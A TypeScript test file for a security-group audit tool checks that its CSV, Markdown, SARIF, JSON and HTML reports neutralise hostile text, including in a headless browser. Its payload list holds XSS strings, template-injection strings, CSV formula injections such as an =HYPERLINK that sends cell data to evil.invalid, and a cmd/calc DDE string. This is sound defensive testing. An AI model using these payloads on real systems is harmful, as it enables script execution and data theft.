import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FINDINGS_SCHEMA, FindingsDocument, SEVERITIES, type CheckInfo, type Finding, type RootCause } from '../../src/model/findings.js';
import { CSV_COLUMNS, renderCsv } from '../../src/report/csv.js';
import { renderHtml } from '../../src/report/html.js';
import { renderJson } from '../../src/report/json.js';
import { renderMarkdown } from '../../src/report/markdown.js';
import { parseFindingsDocument } from '../../src/report/read-findings.js';
import { renderSarif } from '../../src/report/sarif.js';
import { runMain } from '../ops/helpers.js';
import { CHROMIUM_PATH, launchChromium, shouldSkipBrowserTests } from './chromium.js';
import { sarifValidator } from './helpers.js';

/**
 * Report safety: every text field of a findings document carries hostile text (XSS, template
 * injection, Markdown breaking, CSV formulas) and every report format must keep it inert.
 * Payloads that run script set `window.__pwned` or open a dialog, which the browser check watches.
 */
interface Payload {
  name: string;
  kind: 'xss' | 'template' | 'markdown' | 'csv';
  text: string;
}

const PAYLOADS: readonly Payload[] = [
  { name: 'script element', kind: 'xss', text: '<script>window.__pwned=1;alert("script")</script>' },
  { name: 'img onerror', kind: 'xss', text: '<img src=x onerror="window.__pwned=2;alert(2)">' },
  { name: 'javascript: URL', kind: 'xss', text: 'javascript:window.__pwned=3;alert(3)//' },
  { name: 'element breakouts', kind: 'xss', text: '</textarea></title></style></script><svg onload=window.__pwned=4>' },
  { name: 'double-quote attribute breakout', kind: 'xss', text: '" autofocus onfocus="window.__pwned=5" x="' },
  { name: 'single-quote attribute breakout', kind: 'xss', text: "' onmouseover='window.__pwned=6' data-x='" },
  { name: 'external fetch', kind: 'xss', text: '<link rel=stylesheet href=http://evil.invalid/x.css><iframe src=//evil.invalid/></iframe>' },
  { name: 'handlebars constructor', kind: 'template', text: "{{constructor.constructor('window.__pwned=7')()}}" },
  { name: 'triple stache', kind: 'template', text: '{{{x}}} {{#each this}}{{/each}} {{> risk}}' },
  { name: 'template literal', kind: 'template', text: '${window.__pwned=8} #{7*7} <%= 7*7 %>' },
  { name: 'table pipes', kind: 'markdown', text: 'a | b || c \\| d' },
  { name: 'newlines and a new row', kind: 'markdown', text: 'one\n| x | y |\n|--|--|\r\ntwo\rthree' },
  { name: 'backticks', kind: 'markdown', text: '`code` ``two`` ```fence``` `' },
  { name: 'raw details', kind: 'markdown', text: '<details open><summary>hidden</summary>' },
  { name: 'javascript link', kind: 'markdown', text: '[click](javascript:window.__pwned=9)' },
  { name: 'remote image', kind: 'markdown', text: '![img](http://evil.invalid/pixel.png) www.evil.invalid https://evil.invalid/a' },
  { name: 'leading hash', kind: 'markdown', text: '# Heading' },
  { name: 'thematic break', kind: 'markdown', text: '---' },
  { name: 'emphasis, entity, mention', kind: 'markdown', text: '*bold* _it_ ~~s~~ &lt;b&gt; &#60; @team $x$' },
  { name: 'HYPERLINK', kind: 'csv', text: '=HYPERLINK("http://evil.invalid/?d="&A1,"click")' },
  { name: '+cmd', kind: 'csv', text: "+cmd|' /C calc'!A0" },
  { name: 'minus formula', kind: 'csv', text: '-2+3' },
  { name: '@SUM', kind: 'csv', text: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { name: 'tab prefix', kind: 'csv', text: '\t=1+2' },
  { name: 'CR prefix', kind: 'csv', text: '\r=1+2' },
];

const CHECK_IDS = ['public-exposure', 'unused-group', 'broad-rule', 'drift'] as const;
const REGION = 'cn-hangzhou';

/**
 * A findings document with every text field a report shows holding `texts[i]` for payload i:
 * group names and descriptions, rule descriptions, tags, instance and ENI names, account aliases,
 * titles, messages, evidence peers and notes, suppression reasons and owners, drift before/after,
 * coverage messages, root-cause fixes, check metadata.
 */
function hostileDocument(texts: readonly string[], drift = false): FindingsDocument {
  const findings: Finding[] = [];
  const rootCauses: RootCause[] = [];
  const coverage: FindingsDocument['coverage'] = [];
  const suppressions: FindingsDocument['suppressions'] = [];
  const notCompared: NonNullable<FindingsDocument['notCompared']> = [];
  texts.forEach((text, i) => {
    const accountId = String(1_000_000_000_000_000 + i);
    const group = `sg-${i}`;
    const ruleId = `sgr-${i}`;
    const key = `${group}/${ruleId}`;
    const base = { accountId, regionId: REGION, remediation: `Fix: ${text}`, docs: i % 2 === 0 ? text : `docs/checks/${i}.md` };
    const evidence: Finding['evidence'] = [
      { role: 'passed', groupId: group, groupName: text, ruleId: `sgr-drop-${i}`, direction: 'ingress', policy: 'drop', priority: 1, protocol: 'tcp', ports: { from: 23, to: 23 }, peer: text, note: text },
      { role: 'decides', groupId: group, groupName: text, ruleId, direction: 'ingress', policy: 'accept', priority: 5, protocol: 'tcp', ports: { from: 22, to: 22 }, peer: '0.0.0.0/0', description: text, note: text },
    ];
    const breadth = { class: 'internet' as const, publicIpv4: 3_702_258_432, publicIpv6: '0', summary: `internet: 0.0.0.0/0 ${text}` };
    coverage.push(
      { accountId, alias: text, regionId: REGION, api: 'DescribeSecurityGroups', status: 'complete' },
      { accountId, alias: text, regionId: REGION, api: 'DescribeInstances', status: 'failed', code: 'Forbidden.RAM', message: text, requestId: `req-${i}` },
    );
    notCompared.push({ accountId, regionId: REGION, api: 'DescribeInstances', reason: text });
    suppressions.push({ matcher: `broad-rule:${text}`, reason: text, owner: text, expires: '2020-01-01', status: i % 2 === 0 ? 'expired' : 'unmatched' });
    if (!drift) {
      rootCauses.push({
        key,
        accountId,
        regionId: REGION,
        groupId: group,
        groupName: text,
        ruleId,
        rule: { priority: 5, policy: 'accept', protocol: 'tcp', ports: { from: 22, to: 22 }, peer: '0.0.0.0/0', description: text },
        severity: 'critical',
        checks: ['public-exposure'],
        exposes: ['tcp 22 (ssh)'],
        sources: ['0.0.0.0/0'],
        breadth: 'internet',
        findings: 1,
        interfaces: 1,
        internetInterfaces: 1,
        instances: 1,
        fix: `Narrow ${ruleId}: ${text}`,
      });
      findings.push(
        {
          ...base,
          id: `exp${i}`,
          check: 'public-exposure',
          severity: 'critical',
          title: text,
          message: `eni-${i} (${text}) accepts tcp/22 from 0.0.0.0/0: ${text}`,
          resource: { type: 'networkInterface', id: `eni-${i}`, name: text },
          detail: { direction: 'ingress', protocol: 'tcp', ports: { from: 22, to: 22 }, sources: ['0.0.0.0/0'], addresses: ['47.0.0.1'], extra: { tags: { env: text, [`k${i}`]: text } } },
          evidence,
          breadth,
          instance: { id: `i-${i}`, name: text },
          rootCauses: [key],
        },
        {
          ...base,
          id: `unused${i}`,
          check: 'unused-group',
          severity: 'low',
          title: text,
          message: `${group} (${text}) is attached to nothing.`,
          resource: { type: 'securityGroup', id: group, name: text },
          detail: { extra: { description: text } },
          evidence: [],
        },
        {
          ...base,
          id: `broad${i}`,
          check: 'broad-rule',
          severity: 'medium',
          title: text,
          message: `Rule ${ruleId} of ${text} is broad.`,
          resource: { type: 'rule', id: ruleId, name: text },
          detail: { direction: 'ingress', protocol: 'tcp', ports: { from: 1, to: 65535 }, sources: [text] },
          evidence: [{ ...(evidence[1] as Finding['evidence'][number]), role: 'subject' }],
          suppressed: { reason: text, owner: text, expires: '2099-01-01', matchedBy: `broad-rule:${text}` },
        },
      );
    }
    findings.push(
      {
        ...base,
        id: `mod${i}`,
        check: 'drift',
        severity: 'medium',
        title: text,
        message: `Rule ${ruleId} changed: ${text}`,
        resource: { type: 'rule', id: ruleId, name: text },
        detail: {
          extra: {
            kind: 'rule-modified',
            groupId: group,
            before: { direction: 'ingress', policy: 'accept', protocol: 'tcp', ports: '22/22', source: '10.0.0.0/8', description: text, tags: { env: text } },
            after: { direction: 'ingress', policy: 'accept', protocol: 'tcp', ports: '22/22', source: '10.0.0.0/8', description: `after ${text}`, tags: { env: `after ${text}` } },
          },
        },
        evidence,
      },
      {
        ...base,
        id: `new${i}`,
        check: 'drift',
        severity: 'high',
        title: text,
        message: `eni-${i} now accepts tcp/22: ${text}`,
        resource: { type: 'networkInterface', id: `eni-${i}`, name: text },
        detail: { direction: 'ingress', protocol: 'tcp', ports: { from: 22, to: 22 }, sources: ['0.0.0.0/0'], addresses: ['47.0.0.1'], extra: { kind: 'new-exposure', after: { severity: 'high' } } },
        evidence,
        breadth,
      },
      {
        ...base,
        id: `tag${i}`,
        check: 'drift',
        severity: 'low',
        title: text,
        message: `Tags of ${group} changed: ${text}`,
        resource: { type: 'securityGroup', id: group, name: text },
        detail: { extra: { kind: 'group-modified', before: text, after: { name: text, tags: [text] } } },
        evidence: [],
      },
    );
  });
  const checkIds = drift ? (['drift'] as const) : CHECK_IDS;
  const checks: CheckInfo[] = checkIds.map((id, n) => {
    const text = texts[n % texts.length] ?? '';
    return { id, title: `${id}: ${text}`, severity: 'medium', description: text, remediation: `Fix ${id}: ${text}`, docs: n % 2 === 0 ? text : `docs/checks/${id}.md` };
  });
  const active = findings.filter((finding) => !finding.suppressed);
  const byCheck: Record<string, number> = {};
  for (const finding of active) byCheck[finding.check] = (byCheck[finding.check] ?? 0) + 1;
  return FindingsDocument.parse({
    schema: FINDINGS_SCHEMA,
    snapshotId: 'snap-hostile',
    snapshotTakenAt: '2025-01-01T00:00:00Z',
    ...(drift ? { baselineId: 'base-hostile' } : {}),
    generatedAt: '2025-01-01T00:05:00Z',
    tool: { name: 'sgaudit', version: '0.1.0' },
    coverage,
    checks,
    summary: {
      total: findings.length,
      suppressed: findings.length - active.length,
      bySeverity: Object.fromEntries(SEVERITIES.map((severity) => [severity, active.filter((finding) => finding.severity === severity).length])),
      byCheck,
    },
    findings,
    suppressions,
    ...(drift ? {} : { rootCauses }),
    notCompared,
  });
}

const HOSTILE = PAYLOADS.map((payload) => payload.text);
/** The same document with harmless text of its own in every field, for the shape of each report. */
const BENIGN = PAYLOADS.map((_, i) => `benign text ${i}`);
const DOCUMENTS = [
  { name: 'audit', hostile: hostileDocument(HOSTILE), benign: hostileDocument(BENIGN) },
  { name: 'drift report', hostile: hostileDocument(HOSTILE, true), benign: hostileDocument(BENIGN, true) },
] as const;
/** No list shortened, no text cut: every payload reaches the Markdown. */
const MARKDOWN_UNCAPPED = { maxChars: Number.MAX_SAFE_INTEGER, maxTableRows: 10_000, topRisks: 10_000, sampleFindings: 10_000, maxAccountRows: 10_000 };

// ---------------------------------------------------------------------------------------------
// CSV

/** A spreadsheet runs a cell starting with one of these as a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

function checkCsv(csv: string, doc: FindingsDocument, texts: readonly string[] = HOSTILE): void {
  const rows = parseCsv(csv, { relax_column_count: true, bom: false }) as string[][];
  expect(rows[0]).toEqual([...CSV_COLUMNS]);
  expect(rows).toHaveLength(doc.findings.length + 1);
  for (const row of rows) {
    expect(row).toHaveLength(CSV_COLUMNS.length);
    for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
  }
  const cells = new Set(rows.flat());
  // The payload is kept, only prefixed with an apostrophe when it would start a formula.
  for (const text of texts) expect(cells.has(FORMULA_START.test(text) ? `'${text}` : text), JSON.stringify(text)).toBe(true);
}

// ---------------------------------------------------------------------------------------------
// Markdown

/** Cells of a GFM table row: split at pipes without a backslash before them (cmark-gfm's rule). */
function tableCells(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  for (let i = 0; i < line.length; i++) {
    const char = line[i] as string;
    if (char === '\\' && line[i + 1] === '|') {
      cell += '\\|';
      i++;
    } else if (char === '|') {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  cells.push(cell);
  // The leading and trailing pipes delimit nothing.
  return cells.slice(1, -1);
}

/** What a line is, without its data: a table row of n cells, or the line's first word. */
function lineShape(line: string): string {
  return line.startsWith('|') ? `row of ${tableCells(line).length}` : (line.split(' ')[0] ?? '');
}

/** GFM autolink literals: a bare URL or `www.` becomes a link without any brackets. */
const AUTOLINK = /(https?|ftp):\/\/|\bwww\.[^\s.]/i;

/**
 * Markdown syntax that is active outside code spans: a `<` opens raw HTML or an autolink, `[`
 * opens a link or image, `&…;` is an entity, a backtick opens a code span, a bare URL is linked.
 * Backslash escapes and code spans are skipped. Returns the first problem, or undefined.
 */
function activeMarkdown(text: string): string | undefined {
  let plain = '';
  for (let i = 0; i < text.length; ) {
    const char = text[i] as string;
    if (char === '\\' && /[!-/:-@[-`{-~]/.test(text[i + 1] ?? '')) {
      plain += ' ';
      i += 2;
      continue;
    }
    if (char === '`') {
      const fence = /^`+/.exec(text.slice(i))?.[0] ?? '`';
      // A code span closes at the next run of exactly the same length.
      const close = new RegExp(`(?<!\`)${fence}(?!\`)`, 'g');
      close.lastIndex = i + fence.length;
      const end = close.exec(text);
      if (!end) return `unclosed backtick run at ${i}`;
      plain += ' ';
      i = end.index + fence.length;
      continue;
    }
    if (char === '<') return `raw < at ${i}`;
    if (char === '[') return `link bracket at ${i}`;
    if (char === '&' && /^&#?[a-z0-9]+;/i.test(text.slice(i))) return `entity at ${i}`;
    plain += char;
    i += 1;
  }
  const link = AUTOLINK.exec(plain);
  return link ? `bare link ${link[0]}` : undefined;
}

function checkMarkdown(markdown: string, benign?: string): void {
  const lines = markdown.split('\n');
  // No payload adds a line, a table row or a column: each line has the shape of the benign report's.
  if (benign !== undefined) expect(lines.map(lineShape)).toEqual(benign.split('\n').map(lineShape));
  expect(markdown).not.toMatch(/\r/);
  let columns: number | undefined;
  for (const line of lines) {
    if (!line.startsWith('|')) {
      columns = undefined;
      expect(activeMarkdown(line), line).toBeUndefined();
      continue;
    }
    const cells = tableCells(line);
    // Every row of a table has its header's number of cells.
    columns ??= cells.length;
    expect(cells.length, line).toBe(columns);
    for (const cell of cells) expect(activeMarkdown(cell), cell).toBeUndefined();
  }
  // Data never starts a line: headings, rules and raw HTML are the template's own.
  for (const line of lines) expect(line, line).not.toMatch(/^(#(?!#{1,3} )|---|<|!\[|\[)/);
}

// ---------------------------------------------------------------------------------------------
// SARIF

const validateSarif = sarifValidator();

/** Where data may appear in SARIF: plain-text messages, suppression justifications and property bags. */
function payloadPlaces(value: unknown, texts: readonly string[], path: string[] = [], found: string[] = []): string[] {
  if (typeof value === 'string') {
    if (texts.some((text) => value.includes(text))) found.push(path.join('.'));
  } else if (Array.isArray(value)) value.forEach((item, i) => payloadPlaces(item, texts, [...path, String(i)], found));
  else if (value && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      expect(texts.some((text) => key.includes(text)), `key ${key}`).toBe(false);
      payloadPlaces(item, texts, [...path, key], found);
    }
  }
  return found;
}

function checkSarif(sarif: string, texts: readonly string[] = HOSTILE): void {
  const log = JSON.parse(sarif) as unknown;
  const valid = validateSarif(log);
  expect(validateSarif.errors ?? [], 'SARIF 2.1.0 schema').toEqual([]);
  expect(valid).toBe(true);
  // GitHub renders `markdown` messages; the report writes plain text only.
  expect(sarif).not.toMatch(/"markdown"\s*:/);
  const places = payloadPlaces(log, texts);
  expect(places.length).toBeGreaterThan(0);
  const misplaced = places.filter((place) => !/(\.text|\.justification)$/.test(place) && !/\.properties\./.test(place));
  expect(misplaced).toEqual([]);
  // No payload becomes a link: the only URIs are the schema's and real http(s) docs.
  expect(sarif).not.toMatch(/"(helpUri|uri)"\s*:\s*"(?!https?:\/\/)/);
}

// ---------------------------------------------------------------------------------------------
// HTML, as text (the browser check is below)

/** The HTML without its data block (base64, which holds no markup). */
const htmlMarkup = (html: string) => html.replace(/(<script id="sgaudit-data"[^>]*>)[A-Za-z0-9+/=\s]*(<\/script>)/, '$1$2');

function checkHtmlSource(html: string, texts: readonly string[] = HOSTILE): void {
  const markup = htmlMarkup(html);
  // Every payload holding markup or a quote is escaped wherever it is written into the page.
  for (const text of texts.filter((t) => /[<>"']/.test(t))) expect(markup.includes(text), JSON.stringify(text)).toBe(false);
  expect(markup.match(/<script\b/g)).toHaveLength(2);
  expect(markup).not.toMatch(/<(img|iframe|svg onload|link|details open)\b[^>]*(x|evil|__pwned)/i);
  expect(markup).not.toMatch(/\son\w+="?window/i);
  // Links only within the page, to http(s) URLs, or to a relative docs path (describe.ts safeDocsHref).
  for (const [, href] of markup.matchAll(/\shref="([^"]*)"/g)) expect(href).toMatch(/^(#|https?:\/\/|[\w.-]+(\/[\w.-]+)*(#[\w.-]+)?$)/);
}

// ---------------------------------------------------------------------------------------------

describe('report safety: hostile text in every field stays inert', () => {
  it('builds valid documents with every payload in every field', () => {
    for (const { hostile } of DOCUMENTS) {
      const json = JSON.stringify(hostile);
      for (const text of HOSTILE) expect(json).toContain(JSON.stringify(text).slice(1, -1));
    }
  });

  describe.each(DOCUMENTS)('$name document', ({ hostile, benign }) => {
    it('CSV: formula cells start with an apostrophe, every row parses to the header’s columns', () => {
      checkCsv(renderCsv(hostile), hostile);
    });

    it('Markdown: payloads stay inside their cells and code spans, with no HTML, link or image', () => {
      const markdown = renderMarkdown(hostile, MARKDOWN_UNCAPPED);
      checkMarkdown(markdown, renderMarkdown(benign, MARKDOWN_UNCAPPED));
      // Every payload reached the report (escaped), so the check above saw it.
      for (const text of HOSTILE) {
        const words = text.split(/[^A-Za-z0-9]+/).filter((word) => word.length >= 3);
        for (const word of words) expect(markdown, `${JSON.stringify(text)}: ${word}`).toContain(word);
      }
      // Capped as the command caps it: the same guarantees.
      checkMarkdown(renderMarkdown(hostile));
    });

    it('SARIF: valid against the 2.1.0 schema, payloads only in message text and property bags', () => {
      checkSarif(renderSarif(hostile));
    });

    it('JSON: reads back as the same document', () => {
      const json = renderJson(hostile);
      expect(renderJson(parseFindingsDocument('findings.json', json))).toBe(json);
    });

    it('HTML source: no payload is written unescaped', () => {
      checkHtmlSource(renderHtml(hostile));
    });
  });

  it.each(PAYLOADS.map((payload) => [payload.kind, payload.name, payload] as const))('%s payload %s: safe in every format', (_kind, _name, payload) => {
    // One payload alone: nothing else in the document masks what it does.
    const doc = hostileDocument([payload.text]);
    const texts = [payload.text];
    checkCsv(renderCsv(doc), doc, texts);
    checkMarkdown(renderMarkdown(doc, MARKDOWN_UNCAPPED), renderMarkdown(hostileDocument(['benign']), MARKDOWN_UNCAPPED));
    checkSarif(renderSarif(doc), texts);
    checkHtmlSource(renderHtml(doc), texts);
  });

  it('through `sgaudit report`: every format written by the command is safe', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sgaudit-safety-cli-'));
    try {
      const doc = DOCUMENTS[0].hostile;
      const input = join(dir, 'hostile.json');
      writeFileSync(input, renderJson(doc));
      const out = join(dir, 'out');
      const run = await runMain(['report', input, '--format', 'html,md,csv,sarif,json', '--out', out]);
      expect(run.stderr).toBe('');
      expect(run.code).toBe(0);
      const read = (name: string) => readFileSync(join(out, name), 'utf8');
      checkCsv(read('findings.csv'), doc);
      checkMarkdown(read('findings.md'));
      checkSarif(read('findings.sarif'));
      checkHtmlSource(read('findings.html'));
      expect(renderJson(parseFindingsDocument('findings.json', read('findings.json')))).toBe(renderJson(doc));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// ---------------------------------------------------------------------------------------------
// HTML in headless Chromium: one page load with every payload in every field.

const skipBrowser = shouldSkipBrowserTests();
if (skipBrowser) console.warn(`skipping the HTML report safety browser test: ${CHROMIUM_PATH} is missing`);

/** Installed before the page's own script: payloads that run set the canary or open a dialog. */
const CANARY = `
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(event.violatedDirective + ' ' + event.blockedURI));
  Object.defineProperty(window, '__pwned', { configurable: false, get() { return window.__pwnedValue; }, set(value) { window.__pwnedValue = value; } });
`;

/** Every attribute of every element that could run script or load something. */
const ACTIVE_NODES = `(() => {
  const found = [];
  for (const node of document.querySelectorAll('*')) {
    for (const attribute of node.attributes) {
      if (/^on/i.test(attribute.name)) found.push(node.tagName + ' ' + attribute.name);
      if (/^(href|src|action|formaction|srcdoc|xlink:href)$/i.test(attribute.name) && !/^(#|[\\w.-]+(\\/[\\w.-]+)*(#[\\w.-]+)?$)/.test(attribute.value)) found.push(node.tagName + ' ' + attribute.name + '=' + attribute.value);
    }
  }
  for (const node of document.querySelectorAll('img, iframe, object, embed, link, textarea, base, meta[http-equiv="refresh"], svg [onload], foreignObject')) found.push(node.tagName);
  return found;
})()`;

describe.skipIf(skipBrowser)('report safety: the HTML report in headless Chromium', () => {
  let browser: Browser;
  let dir: string;

  beforeAll(async () => {
    browser = await launchChromium();
    dir = mkdtempSync(join(tmpdir(), 'sgaudit-safety-html-'));
  });

  afterAll(async () => {
    await browser?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('runs no payload, requests nothing but the page, keeps its CSP and shows every payload as text', async () => {
    const doc = DOCUMENTS[0].hostile;
    const path = join(dir, 'hostile.html');
    writeFileSync(path, renderHtml(doc, { pageSize: 1000 }));
    const url = pathToFileURL(path).href;
    const page = await browser.newPage({ viewport: { width: 1280, height: 1600 } });
    const requests: string[] = [];
    const problems: string[] = [];
    const dialogs: string[] = [];
    try {
      await page.addInitScript(CANARY);
      await page.route('**/*', async (route) => {
        requests.push(route.request().url());
        await (route.request().url() === url ? route.continue() : route.abort());
      });
      page.on('console', (message) => {
        if (message.type() === 'error' || message.type() === 'warning') problems.push(message.text());
      });
      page.on('pageerror', (error) => problems.push(error.message));
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      await page.goto(url);
      await page.waitForSelector('body[data-ready="true"]', { timeout: 30_000 });
      // Open everything, twice: opening draws nested lists, whose own details open on the second pass.
      for (let pass = 0; pass < 2; pass++) {
        await page.evaluate(`document.querySelectorAll('details').forEach((node) => { node.open = true; })`);
        await page.waitForTimeout(100);
      }
      // Focus and hover every element, for payloads that would wait for onfocus or onmouseover.
      await page.keyboard.press('Tab');
      await page.mouse.move(400, 400);

      expect(await page.evaluate('window.__pwned')).toBeUndefined();
      expect(dialogs).toEqual([]);
      expect(problems).toEqual([]);
      expect(await page.evaluate('window.__violations')).toEqual([]);
      expect(requests).toEqual([url]);
      expect(await page.evaluate(ACTIVE_NODES)).toEqual([]);
      expect(await page.locator('script').count()).toBe(2);
      const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(csp).toMatch(/^default-src 'none'; script-src 'sha256-[A-Za-z0-9+/]+=*'; style-src 'sha256-[A-Za-z0-9+/]+=*'; img-src data:; base-uri 'none'; form-action 'none'$/);
      expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').count()).toBe(1);

      // Each payload is on the page as the text it is (white space folded as the page folds it).
      const fold = (text: string) => text.replace(/\s+/g, ' ').trim();
      const shown = fold((await page.locator('body').textContent()) ?? '');
      for (const text of HOSTILE) expect(shown, JSON.stringify(text)).toContain(fold(text));
      // Named fields, drawn by the page's script from the data: still text.
      for (const [selector, text] of [
        ['#exposure-list', HOSTILE[0]],
        ['#suppressed-list', HOSTILE[1]],
        ['#top-risks', HOSTILE[3]],
        ['#accounts', HOSTILE[4]],
        ['#coverage', HOSTILE[5]],
        ['#drift', HOSTILE[13]],
      ] as const) {
        expect(fold((await page.locator(selector).textContent()) ?? ''), `${selector}: ${text}`).toContain(fold(text ?? ''));
      }
    } finally {
      await page.close();
    }
  });
});
